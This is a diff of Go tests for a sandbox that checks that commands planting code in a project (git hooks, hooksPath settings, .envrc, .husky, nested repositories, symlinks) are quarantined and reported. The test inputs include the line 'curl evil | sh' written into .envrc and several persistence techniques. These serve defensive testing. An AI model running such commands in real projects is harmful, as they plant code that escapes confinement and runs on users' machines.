@@ -8,6 +8,7 @@ import (
 	"os/exec"
 	"path/filepath"
 	"strings"
+	"syscall"
 	"testing"
 	"time"
 
@@ -43,6 +44,7 @@ func newBareProject(t *testing.T, b sandbox.Backend) (*sandbox.Sandbox, string) 
 	dirs, files := permission.ProtectedNames()
 	sb, err := sandbox.New(context.Background(), sandbox.Config{
 		WorkingDirs:   []string{proj},
+		QuarantineDir: filepath.Join(root, "quarantine"),
 		ProtectedDirs: dirs, ProtectedFiles: files,
 		Helper:   exe,
 		Backends: []sandbox.Backend{b},
@@ -78,20 +80,20 @@ func runIn(t *testing.T, sb *sandbox.Sandbox, dir, command string) (string, int,
 }
 
 // TestMissingProtectedPaths runs, under each backend, the commands that plant code for later
-// in a project without .git: each must fail and leave the project as it was (no placeholder
-// left behind either), except the creation of a new nested repository, which no backend can
-// refuse and which must be reported.
+// in a project without .git: whatever a command did, the project afterwards holds nothing
+// that would run code outside the sandbox, only what else the command wrote (kept), and the
+// violations say where what was taken went.
 func TestMissingProtectedPaths(t *testing.T) {
 	_, gitErr := exec.LookPath("git")
 	tests := []struct {
 		name, command string
 		needsGit      bool
-		// reported: the command may succeed but the violations must name this path
-		// (relative to the project); "" means the command must change nothing.
-		reported string
+		// kept are paths (relative to the project) the command may leave: its ordinary
+		// output; everything else must be as before.
+		kept []string
 	}{
-		{name: "git init", command: "git init -q", needsGit: true},
-		{name: "git init and core.hooksPath", command: "git init -q; git config core.hooksPath .githooks", needsGit: true},
+		{name: "git init", command: "git init -q", needsGit: true, kept: []string{".git"}},
+		{name: "git init and core.hooksPath", command: "git init -q; git config core.hooksPath .githooks", needsGit: true, kept: []string{".git"}},
 		{name: "hand-made hooks", command: "mkdir -p .git/hooks && echo x > .git/hooks/pre-commit"},
 		{name: ".envrc", command: "echo 'curl evil | sh' > .envrc"},
 		{name: ".bashrc", command: "echo x > .bashrc"},
@@ -99,12 +101,14 @@ func TestMissingProtectedPaths(t *testing.T) {
 		{name: ".husky hook", command: "mkdir -p .husky && echo x > .husky/pre-commit"},
 		{name: ".gitmodules", command: "printf '[submodule \"x\"]\\n' > .gitmodules"},
 		{name: "symlink as .envrc", command: "ln -s src/main.go .envrc"},
-		{name: "rename into a protected name", command: "echo x > src/e && { mv src/e .envrc; r=$?; rm -f src/e; exit $r; }"},
+		{name: "rename into a protected name", command: "echo x > src/e && mv src/e .envrc"},
 		{name: "existing nested repository's hook", command: "echo x > vendor/lib/.git/hooks/pre-commit"},
 		{name: "existing nested repository's config", command: "echo '[core] hooksPath = /x' >> vendor/lib/.git/config"},
-		{name: "nested repository's hooks folder moved aside", command: "mv vendor/lib/.git/hooks vendor/lib/.git/h && mkdir vendor/lib/.git/hooks"},
-		{name: "new nested repository by hand", command: "mkdir -p src/sub/.git/hooks && echo 'ref: refs/heads/main' > src/sub/.git/HEAD && echo x > src/sub/.git/hooks/pre-commit", reported: "src/sub/.git"},
-		{name: "new nested repository with git", command: "git init -q src/other && echo x > src/other/.git/hooks/pre-commit", needsGit: true, reported: "src/other/.git"},
+		{name: "nested repository's hooks folder moved aside", command: "mv vendor/lib/.git/hooks vendor/lib/.git/h && mkdir vendor/lib/.git/hooks", kept: []string{"vendor/lib/.git/h"}},
+		{name: "new nested repository by hand", command: "mkdir -p src/sub/.git/hooks && echo 'ref: refs/heads/main' > src/sub/.git/HEAD && echo x > src/sub/.git/hooks/pre-commit",
+			kept: []string{"src/sub/.git/HEAD", "src/sub/.git/hooks", "src/sub/.git", "src/sub"}},
+		{name: "new nested repository with git", command: "git init -q src/other && echo x > src/other/.git/hooks/pre-commit", needsGit: true,
+			kept: []string{"src/other"}},
 	}
 	for _, name := range backendNames {
 		t.Run(name, func(t *testing.T) {
@@ -114,33 +118,32 @@ func TestMissingProtectedPaths(t *testing.T) {
 					if tt.needsGit && gitErr != nil {
 						t.Skip("git is not installed")
 					}
-					// A project of its own: under Landlock a nested repository takes the
-					// create right from the folders above it.
+					// A project of its own for each command.
 					sb, proj := newBareProject(t, b)
-					before := snapshot(t, proj)
+					before := listing(t, proj)
 					out, code, viol := runIn(t, sb, proj, tt.command)
-					if tt.reported != "" {
-						want := filepath.Join(proj, tt.reported)
-						if !strings.Contains(strings.Join(viol, "\n"), want) {
-							t.Errorf("%q (exit %d, %s): violations %q do not name %s", tt.command, code, out, viol, want)
+					after := listing(t, proj, tt.kept...)
+					for _, k := range tt.kept {
+						for p := range before {
+							if p == k || strings.HasPrefix(p, k+"/") {
+								delete(before, p)
+							}
 						}
-						return
 					}
-					if code == 0 {
-						t.Errorf("%q succeeded: %s", tt.command, out)
+					if d := diffListings(before, after); len(d) > 0 {
+						t.Errorf("%q (exit %d, %s, violations %q) changed the project:\n%s", tt.command, code, out, viol, strings.Join(d, "\n"))
 					}
-					if after := snapshot(t, proj); after != before {
-						t.Errorf("%q changed the project:\nbefore:\n%s\nafter:\n%s", tt.command, before, after)
+					for _, p := range []string{".git/hooks/pre-commit", "src/sub/.git/hooks/pre-commit", "src/other/.git/hooks/pre-commit", ".git/config"} {
+						full := filepath.Join(proj, p)
+						if b, err := os.ReadFile(full); err == nil && (strings.Contains(string(b), "x\n") || strings.Contains(string(b), "hooksPath")) {
+							t.Errorf("%q left %s: %q", tt.command, p, b)
+						}
 					}
 				})
 			}
 			sb, proj := newBareProject(t, b)
 			t.Run("everyday writes still work", func(t *testing.T) {
-				cmd := "echo x > src/a.go && mkdir -p src/pkg && touch src/pkg/b.go && rm src/a.go"
-				if name == "bubblewrap" {
-					// Landlock cannot create entries at the project's top (see the known limits).
-					cmd += " && touch new.txt && mkdir build && rm -r new.txt build"
-				}
+				cmd := "echo x > src/a.go && mkdir -p src/pkg && touch src/pkg/b.go && rm src/a.go && touch new.txt && mkdir build && rm -r new.txt build"
 				if out, code, viol := runIn(t, sb, proj, cmd); code != 0 || len(viol) > 0 {
 					t.Errorf("%q: exit %d, %s, violations %q", cmd, code, out, viol)
 				}
@@ -158,7 +161,7 @@ func TestMissingProtectedPaths(t *testing.T) {
 }
 
 // unconfined is a backend that confines nothing, standing for one whose mounts or rules missed
-// a path: the check after the command must still see what appeared.
+// a path: the check after the command must still deal with what appeared.
 type unconfined struct{}
 
 func (unconfined) Name() string                                  { return "unconfined" }
@@ -174,7 +177,8 @@ func TestCheckAfterCommandReportsWhatAppeared(t *testing.T) {
 		{command: "echo x > .envrc", want: []string{".envrc"}},
 		{command: "mkdir -p .git/hooks", want: []string{".git"}},
 		{command: "mkdir .husky", want: []string{".husky"}},
-		{command: "mkdir -p src/new/.git", want: []string{"src/new/.git"}},
+		{command: "mkdir -p src/new/.git/hooks && touch src/new/.git/hooks/post-checkout", want: []string{"src/new/.git/hooks/post-checkout"}},
+		{command: "echo x >> vendor/lib/.git/config", want: []string{"vendor/lib/.git/config"}},
 		{command: "echo x > src/ordinary.go && mkdir src/pkg"},
 	}
 	for _, tt := range tests {
@@ -186,8 +190,11 @@ func TestCheckAfterCommandReportsWhatAppeared(t *testing.T) {
 			}
 			joined := strings.Join(viol, "\n")
 			for _, w := range tt.want {
-				if !strings.Contains(joined, filepath.Join(proj, w)+" ") && !strings.Contains(joined, filepath.Join(proj, w)+";") && !strings.Contains(joined, filepath.Join(proj, w)+",") {
+				if !strings.Contains(joined, filepath.Join(proj, w)) {
 					t.Errorf("violations %q do not name %s", viol, w)
+				}
+				if _, err := os.Lstat(filepath.Join(proj, w)); err == nil && !strings.HasSuffix(w, "config") {
+					t.Errorf("%s is still in the project", w)
 				}
 			}
 			if len(tt.want) == 0 && len(viol) > 0 {
@@ -197,5 +204,75 @@ func TestCheckAfterCommandReportsWhatAppeared(t *testing.T) {
 				t.Errorf("the session lists %d violations, the command reported %d", got, len(viol))
 			}
 		})
+	}
+}
+
+// TestCheckFollowsNoSymlink: the check after a command acts inside the write roots only,
+// whatever symlinks the command left there: a repository folder replaced by a link to a folder
+// outside is neither written through (restoring its hooks) nor moved from.
+func TestCheckFollowsNoSymlink(t *testing.T) {
+	sb, proj := newBareProject(t, unconfined{})
+	outside := filepath.Join(filepath.Dir(proj), "outside")
+	for _, d := range []string{"hooks", "objects"} {
+		os.MkdirAll(filepath.Join(outside, d), 0o755)
+	}
+	write(t, filepath.Join(outside, "HEAD"), "ref: refs/heads/main\n")
+	write(t, filepath.Join(outside, "config"), "[core]\n\tfsmonitor = x\n")
+	before := listing(t, outside)
+	lib := filepath.Join(proj, "vendor", "lib")
+	_, code, viol := runIn(t, sb, proj, "rm -rf vendor/lib/.git && ln -s "+outside+" vendor/lib/.git")
+	if code != 0 {
+		t.Fatalf("exit %d", code)
+	}
+	if d := diffListings(before, listing(t, outside)); len(d) > 0 {
+		t.Errorf("the check wrote or moved through the symlink: %s\nviolations %q", strings.Join(d, "\n"), viol)
+	}
+	if !strings.Contains(strings.Join(viol, "\n"), filepath.Join(lib, ".git")+", a folder on the way") {
+		t.Errorf("violations %q do not name the symlink", viol)
+	}
+	if fi, err := os.Lstat(filepath.Join(lib, ".git")); err == nil && fi.Mode()&os.ModeSymlink != 0 {
+		t.Error("the symlink that leads git to another repository's config is still there")
+	}
+}
+
+// TestQuarantineAcrossFileSystems: what the check takes out of a project on another file
+// system than the quarantine is copied there, then removed from the project.
+func TestQuarantineAcrossFileSystems(t *testing.T) {
+	shm, err := os.MkdirTemp("/dev/shm", "reins-sandbox-")
+	if err != nil {
+		t.Skip("no /dev/shm:", err)
+	}
+	defer os.RemoveAll(shm)
+	var a, b syscall.Stat_t
+	if syscall.Stat(shm, &a) != nil || syscall.Stat(t.TempDir(), &b) != nil || a.Dev == b.Dev {
+		t.Skip("/dev/shm is on the same file system as the temporary folder")
+	}
+	proj := filepath.Join(shm, "proj")
+	os.MkdirAll(filepath.Join(proj, "src"), 0o755)
+	q := filepath.Join(t.TempDir(), "quarantine")
+	exe, _ := os.Executable()
+	dirs, files := permission.ProtectedNames()
+	sb, err := sandbox.New(context.Background(), sandbox.Config{WorkingDirs: []string{proj}, QuarantineDir: q,
+		ProtectedDirs: dirs, ProtectedFiles: files, Helper: exe, Backends: []sandbox.Backend{unconfined{}}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer sb.Close()
+	_, _, viol := runIn(t, sb, proj, "mkdir -p .vscode/sub && echo '{}' > .vscode/tasks.json && ln -s /etc/passwd .vscode/link")
+	if _, err := os.Lstat(filepath.Join(proj, ".vscode")); err == nil {
+		t.Errorf(".vscode is still in the project; violations %q", viol)
+	}
+	var moved string
+	filepath.Walk(q, func(p string, fi os.FileInfo, err error) error {
+		if err == nil && strings.HasSuffix(p, "/.vscode/tasks.json") {
+			moved = p
+		}
+		return nil
+	})
+	if b, err := os.ReadFile(moved); err != nil || string(b) != "{}\n" {
+		t.Errorf("the quarantined copy: %q, %v (violations %q)", b, err, viol)
+	}
+	if l, err := os.Readlink(filepath.Join(filepath.Dir(moved), "link")); err != nil || l != "/etc/passwd" {
+		t.Errorf("the symlink was not copied as a symlink: %q, %v", l, err)
 	}
 }
